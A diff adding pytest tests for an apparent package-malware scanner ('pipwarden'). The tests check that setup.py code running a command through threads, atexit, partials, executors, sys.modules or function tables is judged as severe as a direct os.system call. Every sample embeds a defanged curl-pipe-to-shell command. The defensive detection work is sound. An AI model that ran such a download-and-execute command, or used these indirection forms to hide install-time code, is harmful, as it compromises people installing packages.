@@ -1,0 +1,142 @@
+"""Sinks called indirectly: a callable handed to something that calls it is judged as a
+direct call of it with the arguments it is given; sys.modules, operator.methodcaller, a
+table of functions and a class attribute name the sink they hold.
+
+Every sample is defanged (example.invalid hosts) and only parsed, never run.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from pipwarden.findings import Severity
+from pipwarden.scan.engine import FileContext, analyse_member
+
+C = '"curl http://example.invalid/x | sh"'
+
+
+def judged(body: str, name: str = "x-1.0/setup.py", kind: str = "sdist") -> dict[str, str]:
+    """rule -> highest severity label for a file holding `body`."""
+    source = "from setuptools import setup\n" + body + 'setup(name="x")\n'
+    out: dict[str, Severity] = {}
+    for f in analyse_member(FileContext(name, kind, kind == "wheel"), source.encode()):
+        out[f.rule] = max(out.get(f.rule, f.severity), f.severity)
+    return {rule: sev.label for rule, sev in out.items()}
+
+
+DIRECT = judged(f"import os\nos.system({C})\n")
+
+# (form, a setup.py body running the command through it)
+INDIRECT = [
+    ("sys-modules-subscript", f'import sys\nsys.modules["os"].system({C})\n'),
+    ("sys-modules-get", f'import sys, subprocess\nsys.modules.get("os").system({C})\n'),
+    ("atexit", f"import atexit, os\natexit.register(os.system, {C})\n"),
+    ("thread-target-args", f"import threading, os\nthreading.Thread(target=os.system, args=({C},)).start()\n"),
+    ("process-target", f"import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=[{C}]).start()\n"),
+    ("timer", f"import threading, os\nthreading.Timer(1.0, os.system, args=({C},)).start()\n"),
+    ("partial-bound", f"import functools, os\nfunctools.partial(os.system, {C})()\n"),
+    ("partial-called", f"from functools import partial\nimport os\nrun = partial(os.system)\nrun({C})\n"),
+    ("partial-handed-to-atexit", f"import atexit, functools, os\natexit.register(functools.partial(os.system, {C}))\n"),
+    ("methodcaller-stored", f'import operator, os\nrun = operator.methodcaller("system", {C})\nrun(os)\n'),
+    ("map", f"import os\nlist(map(os.system, [{C}]))\n"),
+    ("map-of-a-variable", f"import os\ncmds = ({C},)\nlist(map(os.system, cmds))\n"),
+    ("starmap", f"import itertools, os\nlist(itertools.starmap(os.system, [({C},)]))\n"),
+    ("methodcaller", f'import operator, os\noperator.methodcaller("system", {C})(os)\n'),
+    ("dict-table", f'import os\ntable = {{"run": os.system}}\ntable["run"]({C})\n'),
+    ("dict-table-get", f'import os\ntable = {{"run": os.system}}\ntable.get("run")({C})\n'),
+    ("class-attribute", f"import os\nclass K:\n    run = staticmethod(os.system)\nK.run({C})\n"),
+    ("executor-submit", f"import os\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(os.system, {C})\n"),
+    ("executor-map", f"import os\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().map(os.system, [{C}])\n"),
+    ("run-in-executor", f"import asyncio, os\nasyncio.get_event_loop().run_in_executor(None, os.system, {C})\n"),
+    ("call-later", f"import asyncio, os\nasyncio.get_event_loop().call_later(1, os.system, {C})\n"),
+    ("sched-enter", f"import sched, os, time\ns = sched.scheduler(time.time)\ns.enter(1, 1, os.system, argument=({C},))\ns.run()\n"),
+    ("start-new-thread", f"import _thread, os\n_thread.start_new_thread(os.system, ({C},))\n"),
+    ("pool-apply-async", f"import multiprocessing, os\nmultiprocessing.Pool().apply_async(os.system, ({C},))\n"),
+    ("thread-lambda", f"import threading, os\nthreading.Thread(target=lambda c: os.system(c), args=({C},)).start()\n"),
+]  # fmt: skip
+
+
+def test_the_direct_call_is_critical() -> None:
+    assert DIRECT.get("download-execute.remote-command") == "critical"
+
+
+@pytest.mark.parametrize(("body",), [f[1:] for f in INDIRECT], ids=[f[0] for f in INDIRECT])
+def test_indirect_call_is_judged_as_the_direct_one(body: str) -> None:
+    assert judged(body) == DIRECT
+
+
+def test_subprocess_through_sys_modules_with_shell() -> None:
+    found = judged(f'import sys\nsys.modules.get("subprocess").call({C}, shell=True)\n')
+    assert found.get("download-execute.remote-command") == "critical"
+
+
+def test_keyword_arguments_a_thread_passes_on() -> None:
+    direct = judged(f"import subprocess\nsubprocess.run(args={C}, shell=True)\n")
+    handed = judged(
+        "import subprocess, threading\n"
+        f'threading.Thread(target=subprocess.run, kwargs={{"args": {C}, "shell": True}}).start()\n'
+    )
+    assert handed == direct
+    assert direct.get("download-execute.remote-command") == "critical"
+
+
+def test_arguments_a_thread_passes_to_a_local_function() -> None:
+    # The helper's parameter reaches os.system: the command given to the thread runs.
+    body = f"import os, threading\ndef go(c):\n    os.system(c)\nthreading.Thread(target=go, args=({C},)).start()\n"
+    assert judged(body).get("download-execute.remote-command") == "critical"
+
+
+# (harmless use of the same runners, which must stay as quiet as the direct call)
+HARMLESS = [
+    ("thread-of-print", 'import threading\nthreading.Thread(target=print, args=("x",)).start()\n'),
+    ("partial-of-int", "import functools\nto_int = functools.partial(int, base=2)\nto_int('101')\n"),
+    ("map-of-str-strip", "lines = open('requirements.txt').read().splitlines()\nreqs = list(map(str.strip, lines))\n"),
+    ("table-of-harmless-functions", 'import os\nops = {"join": os.path.join, "up": str.upper}\nops["join"]("a", "b")\n'),
+    ("class-attribute-of-a-harmless-function", "import os\nclass K:\n    j = staticmethod(os.path.join)\nK.j('a', 'b')\n"),
+    ("unknown-callable-stays-unknown", f"import threading\nfrom tasks import worker\nthreading.Thread(target=worker, args=({C},)).start()\n"),
+    ("methodcaller-of-a-harmless-method", 'import operator\nlower = operator.methodcaller("lower")\nlower("X")\n'),
+    ("sys-modules-of-own-module", "import sys\nsys.modules[__name__].VERSION = '1.0'\n"),
+    ("atexit-of-a-cleanup", "import atexit, shutil, tempfile\nd = tempfile.mkdtemp()\natexit.register(shutil.rmtree, d)\n"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("body",), [f[1:] for f in HARMLESS], ids=[f[0] for f in HARMLESS])
+def test_harmless_callables_handed_on_stay_clean(body: str) -> None:
+    assert judged(body) == {}
+
+
+def test_a_runner_does_not_judge_more_than_the_direct_call_would() -> None:
+    # Running git from a thread in setup.py is what running it directly is, no more.
+    direct = judged('import subprocess\nsubprocess.call(["git", "describe"])\n')
+    handed = judged(
+        "import subprocess, threading\n"
+        'threading.Thread(target=subprocess.call, args=(["git", "describe"],)).start()\n'
+    )
+    assert handed == direct
+
+
+def test_a_partial_is_judged_where_it_is_called_not_where_it_is_made() -> None:
+    # Shortcuts bound at import time (grequests' `get = partial(AsyncRequest, "GET")`)
+    # do not run the class on import.
+    module = (
+        "import functools, requests\n"
+        "class AsyncRequest:\n"
+        "    def __init__(self, method, url=None):\n"
+        "        self.response = requests.request(method, url)\n"
+    )
+    shortcut = 'get = functools.partial(AsyncRequest, "GET")\n'
+    plain = judged(module, name="pkg/__init__.py", kind="wheel")
+    assert judged(module + shortcut, name="pkg/__init__.py", kind="wheel") == plain
+    called = judged(
+        module + shortcut + 'get("https://example.invalid/")\n',
+        name="pkg/__init__.py",
+        kind="wheel",
+    )
+    assert called.get("startup-hook.import-network") == "medium"
+
+
+def test_a_partial_of_a_sink_never_called_is_judged_like_a_lambda() -> None:
+    lam = judged(f"import os\nrun = lambda: os.system({C})\n")
+    part = judged(f"import functools, os\nrun = functools.partial(os.system, {C})\n")
+    assert part == lam
+    assert part != DIRECT  # not run while pip builds it
